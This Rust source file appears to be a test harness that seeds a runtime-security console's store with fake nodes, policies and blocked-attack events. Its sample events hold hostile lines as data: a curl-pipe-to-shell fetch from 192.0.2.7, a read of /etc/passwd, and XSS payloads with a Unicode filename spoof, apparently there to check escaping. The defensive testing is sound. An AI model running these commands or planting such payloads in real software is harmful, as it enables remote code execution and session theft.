//! What nodes would report, put into the console's store when the journeys ask for it: one command a connection,
//! answered with `done`.

use anyhow::{Context, Result, bail};
use jiff::{SignedDuration, Timestamp};
use moat_event::{Event, Workload};
use moat_store::{
    ActivityKind, Actor, Container, Heartbeat, NewActivity, NewEnforcer, NewEnrolmentToken, NewEvent,
    NewPolicy, NodePolicy, PolicyState, PolicyStatus, Protection, SetProgress, Store,
};
use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::net::{TcpListener, TcpStream};
use uuid::Uuid;

const NODES: [(&str, &str); 3] = [("node-1", "lsm"), ("node-2", "guard"), ("node-3", "lsm")];
const POLICIES: [&str; 4] = [
    include_str!("../../../../examples/no-shells.yaml"),
    include_str!("../../../../examples/no-passwd.yaml"),
    include_str!("../../../../examples/read-only-etc.yaml"),
    include_str!("../../../../examples/immutable-image.yaml"),
];
const WORKLOAD: &str = "default/Deployment/web";

/// Listens for the journeys' commands.
#[derive(Debug)]
pub struct Stage {
    port: u16,
}

impl Stage {
    pub async fn open(store: Store) -> Result<Stage> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let port = listener.local_addr()?.port();
        tokio::spawn(async move {
            let mut enforcers = Vec::new();
            while let Ok((stream, _)) = listener.accept().await {
                // Who does not read the answer fails by itself.
                let _ = serve(stream, &store, &mut enforcers).await;
            }
        });
        Ok(Stage { port })
    }

    pub fn port(&self) -> u16 {
        self.port
    }
}

async fn serve(stream: TcpStream, store: &Store, enforcers: &mut Vec<String>) -> Result<()> {
    let mut stream = BufReader::new(stream);
    let mut command = String::new();
    stream.read_line(&mut command).await?;
    let answer = match perform(command.trim(), store, enforcers).await {
        Ok(()) => "done".to_owned(),
        Err(error) => format!("{error:#}"),
    };
    stream.write_all(answer.as_bytes()).await?;
    stream.shutdown().await?;
    Ok(())
}

async fn perform(command: &str, store: &Store, enforcers: &mut Vec<String>) -> Result<()> {
    match command.split_once(' ').unwrap_or((command, "")) {
        ("seed", "") => seed(store, enforcers).await,
        ("block", "") => {
            let enforcer = enforcers.first().context("seed first")?;
            store.insert_events(vec![attack(enforcer)?]).await?;
            Ok(())
        }
        ("burst", "") => {
            let enforcer = enforcers.first().context("seed first")?;
            let mut events = vec![attack(enforcer)?];
            events.extend(history(enforcer)?.into_iter().rev().take(7));
            for (number, event) in events.iter_mut().enumerate() {
                // They are in the store already, under other ids.
                event.event.id = Uuid::now_v7().to_string();
                event.event.reason = Some(format!("burst {number}"));
            }
            store.insert_events(events).await?;
            Ok(())
        }
        ("flood", number) => flood(store, enforcers.first().context("seed first")?, number.parse()?).await,
        _ => bail!("no such command: {command}"),
    }
}

/// Three nodes, their containers and policies, a day of events.
async fn seed(store: &Store, enforcers: &mut Vec<String>) -> Result<()> {
    let actor = Actor { name: "moat".into(), role: "Console".into(), source_address: String::new() };
    let mut transaction = store.begin(&actor).await?;
    for document in POLICIES {
        let model: Value = serde_saphyr::from_str(document)?;
        let name = model["metadata"]["name"].as_str().context("a policy has a name")?.to_owned();
        let rules = model["spec"]["rules"].as_array().map_or(0, Vec::len) as i64;
        let mode = model["spec"]["mode"].as_str().unwrap_or("Audit").to_owned();
        let policy = NewPolicy { name, kind: "RuntimePolicy".into(), document: document.into(), mode, rules };
        transaction.create_policy(policy, "From the examples").await?;
    }
    let token = NewEnrolmentToken {
        label: "first nodes".into(),
        secret_hash: vec![7; 32],
        uses: 3,
        expires_at: Timestamp::now() + SignedDuration::from_hours(24),
    };
    let token = transaction.create_enrolment_token(token).await?;
    for (index, (node, _)) in NODES.iter().enumerate() {
        let new = NewEnforcer {
            node: (*node).into(),
            machine: format!("machine-{index}"),
            version: "0.1.0".into(),
        };
        let enforcer = transaction.enrol(&token.id, &[7; 32], new).await?;
        let expires = Timestamp::now() + SignedDuration::from_hours(24 * 30);
        transaction.add_certificate(&enforcer.id, &format!("4f2a91cc0b7{index}"), expires).await?;
        enforcers.push(enforcer.id);
    }
    transaction.commit().await?;

    let set = store.policy_set().await?;
    let policies = store.policies().await?;
    for (enforcer, (node, driver)) in enforcers.iter().zip(NODES) {
        store
            .enforcer_connected(
                enforcer,
                "this",
                "0.1.0",
                "6.12.57+deb13-amd64",
                driver,
                &json!({ "mechanisms": [] }),
            )
            .await?;
        let status = json!({
            "agent": { "version": "0.1.0", "pid": 1, "uptimeSeconds": 259_200, "residentBytes": 64_000_000, "containers": 2 },
            "spool": { "events": 0, "bytes": 0, "lost": 0 },
        });
        let progress = SetProgress { offered_set: set, accepted_set: set, enforced_set: set };
        store
            .heartbeats(&[Heartbeat {
                enforcer_id: enforcer.clone(),
                status: Some(status),
                progress: Some(progress),
                lag_ms: Some(38),
            }])
            .await?;
        let statuses: Vec<_> = policies.iter().map(|policy| status_of(enforcer, driver, policy)).collect();
        store.put_policy_statuses(std::slice::from_ref(enforcer), &statuses).await?;
        store.put_containers(enforcer, true, &containers(enforcer, node), &[]).await?;
        store.put_node_policies(enforcer, true, &own_policies(enforcer, node)?, &[]).await?;
    }
    store.put_activities(&activities()).await?;
    let node = enforcers.first().context("a node enrolled")?;
    store.insert_events(history(node)?).await?;
    Ok(())
}

fn status_of(enforcer: &str, driver: &str, policy: &moat_store::Policy) -> PolicyStatus {
    let degraded = driver == "guard" && policy.name == "read-only-etc";
    PolicyStatus {
        enforcer_id: enforcer.to_owned(),
        policy: policy.name.clone(),
        revision: policy.revision,
        state: if degraded { PolicyState::Degraded } else { PolicyState::Enforced },
        reasons: if degraded {
            vec!["Create, Delete, Rename is reported after it took effect, not refused; refusing it needs a kernel with BPF LSM".into()]
        } else {
            Vec::new()
        },
        containers: 1,
    }
}

/// What stands in the folder of each node: one policy everywhere, another on the third node in a version of its own.
fn own_policies(enforcer: &str, node: &str) -> Result<Vec<NodePolicy>> {
    let policy = |name: &str, document: String| NodePolicy {
        enforcer_id: enforcer.to_owned(),
        kind: "RuntimePolicy".into(),
        name: name.into(),
        file: format!("/etc/moat/policies/{name}.yaml"),
        document,
        first_seen: Timestamp::now() - SignedDuration::from_hours(50),
        state: PolicyState::Enforced,
        reasons: Vec::new(),
        containers: 1,
    };
    let everywhere = understood(include_str!("../../../../examples/no-egress.yaml"))?;
    let differs = understood(include_str!("../../../../examples/no-dangerous-syscalls.yaml"))?;
    let differs = if node == "node-3" { differs.replace("mode: Enforce", "mode: Audit") } else { differs };
    Ok(vec![policy("no-egress", everywhere), policy("no-dangerous-syscalls", differs)])
}

/// As an enforcer tells it.
fn understood(document: &str) -> Result<String> {
    let mut documents =
        moat_policy::parse("example", document.as_bytes()).ok().context("an example is valid")?;
    match documents.pop() {
        Some(moat_policy::Document::Runtime(policy)) => Ok(serde_saphyr::to_string(&policy)?),
        _ => bail!("an example is one runtime policy"),
    }
}

fn workload(node: &str, namespace: &str, name: &str) -> Workload {
    Workload {
        namespace: namespace.into(),
        pod: format!("{name}-{node}"),
        labels: [("app".to_owned(), if name == "web" { "nginx" } else { name }.to_owned())].into(),
        container: if name == "web" { "nginx" } else { name }.into(),
        container_id: format!("{node}-{namespace}-{name}"),
        image: format!("docker.io/library/{}:1.27", if name == "web" { "nginx" } else { name }),
        node: node.into(),
        kind: "Deployment".into(),
        name: name.into(),
        ..Workload::default()
    }
}

fn containers(enforcer: &str, node: &str) -> Vec<Container> {
    let names = [
        ("default", "web", Protection::Protected),
        ("payments", "api", Protection::Audit),
        ("payments", "worker", Protection::Unprotected),
    ];
    names
        .into_iter()
        .map(|(namespace, name, protection)| {
            let protected = protection == Protection::Protected;
            let workload = workload(node, namespace, name);
            Container {
                enforcer_id: enforcer.to_owned(),
                container_id: workload.container_id.clone(),
                policies: if protected {
                    vec!["no-shells".into(), "immutable-image".into()]
                } else {
                    Vec::new()
                },
                rules: if protected { 4 } else { 0 },
                problem: None,
                protection,
                started_at: Some(Timestamp::now() - SignedDuration::from_hours(30)),
                seen_at: Timestamp::now(),
                ended_at: None,
                workload,
            }
        })
        .collect()
}

fn activities() -> Vec<NewActivity> {
    let executed = |path: &str, arguments: &[&str], count| NewActivity {
        namespace: "default".into(),
        workload_kind: "Deployment".into(),
        workload_name: "web".into(),
        container: "nginx".into(),
        kind: ActivityKind::Executed,
        subject: path.to_owned(),
        detail: json!({ "exec": {
            "path": path, "arguments": arguments, "user": 0, "parents": ["/usr/sbin/nginx"], "origin": "Entrypoint", "source": "Image",
        } }),
        first_seen: Timestamp::now(),
        last_seen: Timestamp::now(),
        count,
    };
    vec![
        executed("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"], 3),
        executed("/usr/bin/curl", &["curl", "-s", "http://127.0.0.1/health"], 288),
    ]
}

/// A day of what policies stopped, reported and would have stopped.
fn history(enforcer: &str) -> Result<Vec<NewEvent>> {
    let kinds = [
        json!({ "eventType": "ProcessExec", "policyName": "no-shells", "rule": "no-shells", "action": "Blocked", "severity": "High",
            "filePath": "/usr/bin/sh", "message": "Execution of /usr/bin/sh by nginx container is prohibited by policy.",
            "process": process("/usr/bin/sh", &["sh", "-c", "curl -s http://192.0.2.7/stage2 | sh"]) }),
        json!({ "eventType": "FileAccess", "policyName": "DisallowEtcAccessForNginx", "rule": "no-passwd", "action": "Blocked", "severity": "High",
            "filePath": "/etc/passwd", "fileOperation": "Read",
            "message": "File access to /etc/passwd by nginx container is prohibited by policy.",
            "process": process("/usr/bin/cat", &["cat", "/etc/passwd"]) }),
        json!({ "eventType": "FileAccess", "policyName": "read-only-etc", "rule": "etc-is-read-only", "action": "Alerted", "severity": "Low",
            "filePath": "/etc/nginx/fastcgi.conf", "fileOperation": "Chmod",
            "message": "Change of mode of /etc/nginx/fastcgi.conf by nginx container is prohibited by policy.",
            "process": process("/usr/bin/chmod", &["chmod", "666", "/etc/nginx/fastcgi.conf"]) }),
        json!({ "eventType": "Drift", "policyName": "immutable-image", "rule": "immutable-image", "action": "Killed", "severity": "Critical",
            "filePath": "/memfd:payload",
            "message": "Execution of fileless code /memfd:payload by nginx container is prohibited by policy.",
            "process": process("/memfd:payload", &["payload"]) }),
    ];
    // Busier hours and quieter ones.
    let mut events = Vec::new();
    for minutes in (1..1_420_i64).rev().step_by(9) {
        for (index, kind) in kinds.iter().enumerate() {
            let wave = (minutes / 9 + 3 * index as i64) % [2, 3, 5, 11][index];
            if wave == 0 {
                events.push(event(
                    enforcer,
                    Timestamp::now() - SignedDuration::from_mins(minutes),
                    kind.clone(),
                )?);
            }
        }
    }
    Ok(events)
}

fn process(executable: &str, arguments: &[&str]) -> Value {
    json!({ "pid": 4711, "executable": executable, "arguments": arguments, "cwd": "/", "parent": "/usr/bin/bash", "parentPid": 4700,
        "uid": 0, "origin": "ExecSession" })
}

/// An execution whose path and arguments are those of somebody who hopes that a page shows them as they are.
fn attack(enforcer: &str) -> Result<NewEvent> {
    let path = "/tmp/<img src=x onerror=alert(1)>";
    event(
        enforcer,
        Timestamp::now(),
        json!({ "eventType": "ProcessExec", "policyName": "no-shells", "rule": "no-shells", "action": "Blocked", "severity": "High",
            "filePath": path, "message": format!("Execution of {path} by nginx container is prohibited by policy."),
            "reason": "process.names has sh",
            "process": process(path, &["sh", "-c", "<script>alert(document.cookie)</script>", "\u{202e}cod.exe"]) }),
    )
}

async fn flood(store: &Store, enforcer: &str, number: usize) -> Result<()> {
    // As from a node: batch by batch.
    for start in (0..number).step_by(1000) {
        let batch = (start..number.min(start + 1000)).map(|number| {
            event(
                enforcer,
                Timestamp::now(),
                json!({ "eventType": "ProcessExec", "policyName": "flood", "rule": "flood", "action": "Alerted", "severity": "Low",
                    "message": format!("event {number} of many"), "process": process("/usr/bin/true", &["true"]) }),
            )
        });
        store.insert_events(batch.collect::<Result<Vec<_>>>()?).await?;
    }
    Ok(())
}

fn event(enforcer: &str, at: Timestamp, mut fields: Value) -> Result<NewEvent> {
    let workload = workload("node-1", "default", "web");
    let seconds = u64::try_from(at.as_second())?;
    let id = Uuid::new_v7(uuid::Timestamp::from_unix(
        uuid::NoContext,
        seconds,
        at.subsec_nanosecond().unsigned_abs(),
    ));
    let more = json!({
        "timestamp": at, "id": id.to_string(), "node": workload.node, "namespace": workload.namespace, "podName": workload.pod,
        "containerName": workload.container, "containerId": workload.container_id, "labels": workload.labels, "image": workload.image,
    });
    if let (Some(fields), Value::Object(more)) = (fields.as_object_mut(), more) {
        fields.extend(more);
    }
    let event: Event = serde_json::from_value(fields).context("an event is complete")?;
    Ok(NewEvent { enforcer_id: enforcer.to_owned(), workload: Some(WORKLOAD.to_owned()), event })
}
